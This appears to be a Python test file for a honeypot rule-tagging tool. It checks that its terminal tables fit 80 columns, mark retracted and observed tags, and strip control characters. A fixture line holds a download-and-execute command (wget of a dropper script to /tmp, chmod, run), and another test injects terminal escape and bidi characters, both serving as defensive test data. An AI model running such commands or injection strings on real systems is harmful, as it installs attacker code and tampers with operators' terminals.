#!/usr/bin/env python3
"""Every table of the real program in a terminal of 80 columns: ids, addresses, techniques and marks are whole.

usage: tables.py PROGRAM [unittest arguments]
"""
import datetime
import json
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
import program

ADDRESS = "2001:db8:ffff:ffff:ffff:ffff:ffff:fffe"
SESSION = "546fd7f0-68f6-5530-a59a-b266e26de05a"
LINE = "alpha; wget http://192.0.2.1/a-long-path/of-some-dropper.sh -O /tmp/x; chmod +x /tmp/x; /tmp/x\x1b[2J"


class Tables(program.Scenario):
    def setUp(self):
        super().setUp()
        self.write_rule("R0001", "alpha", technique="T1059", more="evidence_fields: [command_text]\n")
        path = self.rules / "R0001.yaml"
        path.write_text(path.read_text().replace("name: R0001", "name: the_first_letter_of_an_alphabet_with_a_long_name"))
        self.write_rule("R0002", "alpha", technique="T1105")
        now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        log = self.root / "events.ndjson"
        log.write_text("".join(json.dumps(
            {"source_kind": "command", "source_id": f"c{n}", "attacker_uuid": "a-1", "session_id": SESSION, "decky_id": "honey-ams-01",
             "observed_at": at, "payload": {"command_text": LINE, "src_ip": ADDRESS}}) + "\n"
            for n, at in enumerate(("2026-01-01T00:00:00Z", now))))
        self.log = log

    def store_tags(self, *more):
        self.run_program("run", "--once", "--store", self.store, "--rules", self.rules, "--input", self.log, "--output", "none", *more)

    def table(self, *command):
        """The lines in 80 columns; none is longer."""
        text = self.on_a_terminal(*command, "--store", self.store, columns=80)
        self.assertNotIn("\x1b", text)
        lines = text.splitlines()
        self.assertLessEqual(max(map(len, lines)), 80, text)
        return lines

    def test_a_tag_keeps_its_address_session_technique_and_mark(self):
        self.store_tags()
        self.run_program("tags", "retract", "--rule", "R0001", "--since", "2026-01-01T00:00Z", "--reason", "x", "--store", self.store)
        text = "\n".join(self.table("tags", "--retracted"))
        for whole in (ADDRESS, SESSION, "T1059", "T1105", "R0001", "R0002", "retracted", "2026-01-01T00:00:00Z"):
            self.assertIn(whole, text)
        self.assertIn("\u2026", text)  # the name and the line are cut
        self.assertNotIn("retracted", "\n".join(self.table("tags")))

    def test_times_of_today_have_no_date(self):
        self.store_tags()
        first = self.table("tags", "--since", "1h", "--rule", "R0001")[2:]
        self.assertRegex("\n".join(first), r"(?m)^\d\d:\d\d:\d\dZ  2001:db8:")

    def test_a_session_shows_which_tags_are_retracted(self):
        self.store_tags()
        self.run_program("tags", "retract", "--rule", "R0001", "--since", "2026-01-01T00:00Z", "--reason", "x", "--store", self.store)
        self.assertIn("T1059 (retracted) T1105", "\n".join(self.table("session", SESSION, "--retracted")))
        told = self.records("session", SESSION, "--retracted", "--store", self.store)
        self.assertEqual([sorted((tag["rule_id"], tag["retracted"]) for tag in step["tags"]) for step in told],
                         [[("R0001", True), ("R0002", False)]] * 2)
        self.assertNotIn("retracted", "\n".join(self.table("session", SESSION)))

    def test_an_observed_tag_is_marked(self):
        self.run_program("sync", "--once", "--rules", self.rules, "--store", self.store)
        self.run_program("state", "observe", "R0001", "--for", "4h", "--reason", "x", "--store", self.store)
        self.store_tags()
        rows = [line for line in self.table("tags") if "observed" in line]
        self.assertEqual(len(rows), 2)
        self.assertIn("T1059 (observed)", "\n".join(self.table("session", SESSION)))

    def test_decisions_and_their_history_are_readable(self):
        self.run_program("sync", "--once", "--rules", self.rules, "--store", self.store)
        reason = "the backup job of the finance department runs until tonight, see the ticket"
        made = json.loads(self.run_program("state", "disable", "R0001", "--where", f"src_ip={ADDRESS}", "--for", "4h", "--by",
                                           "operator.of.the.night", "--ticket", "INC-4711", "--reason", reason, "--store", self.store)[0])
        for command in (("list",), ("get", "R0001"), ("history",), ("history", "R0001")):
            text = "\n".join(self.table("state", *command))
            for whole in ("R0001", "operator.of.the.night", *((f"src_ip={ADDRESS}", "INC-4711") if command[0] != "history" else ())):
                self.assertIn(whole, text)
        line = next(line for line in self.table("state", "history", "R0001") if "decision" in line)
        self.assertRegex(line, rf"^\d+ +\S+Z +R0001 +{made['id']} +decision ")
        self.run_program("state", "undo", made["id"], "--by", "operator.of.the.night", "--store", self.store)
        self.assertIn("operator.of.the.night", "\n".join(self.table("state", "list", "--ended", "1h")))

    def test_every_other_table_fits(self):
        self.store_tags()
        self.run_program("state", "disable", "R0001", "--for", "4h", "--reason", "x", "--store", self.store)
        self.log.write_text(self.log.read_text().replace('"source_id": "c', '"source_id": "d'))
        self.store_tags()
        for command in (("rules", "list"), ("rules", "log", "R0001"), ("rules", "top"), ("rules", "digest"), ("coverage",),
                        ("withheld", "list"), ("withheld", "count"), ("state", "disable", "R0002", "--dry-run"),
                        ("tags", "retract", "--since", "1h", "--rule", "R0002", "--reason", "x", "--dry-run")):
            with self.subTest(command):
                self.assertGreater(len(self.table(*command)), 1)

    def test_a_terminal_gets_no_byte_of_an_attacker(self):
        evil = "\x1b[2J\u202e\u0085\x07"
        record = json.loads(self.log.read_text().splitlines()[0])
        record["session_id"] += "\u202e"  # control characters are refused there
        record["payload"] = {"command_text": "alpha" + evil, "src_ip": ADDRESS + evil}
        self.log.write_text(json.dumps(record) + "\n")
        self.store_tags()
        session = SESSION + "\u202e"
        self.assertEqual(len(self.records("session", session, "--store", self.store)), 1)
        for command in (("tags",), ("tags", "--json"), ("session", session), ("session", session, "--json"), ("report", "--format", "csv"),
                        ("report", "--format", "html"), ("tags", "--rule", evil),
                        ("tags", "retract", "--session", session, "--since", "2026-01-01T00:00Z", "--reason", evil, "--dry-run")):
            with self.subTest(command):
                self.assert_harmless(self.printed_and_said(*command, "--store", self.store, columns=80))
        self.assert_harmless(self.printed_and_said("explain", "--rules", self.rules, "--format", "text", "alpha" + evil, columns=80))

    def assert_harmless(self, printed):
        self.assertEqual([each for each in ("\x1b[2J", "\u202e", "\u0085", "\x07") if each in "".join(printed)], [])


if __name__ == "__main__":
    program.main()
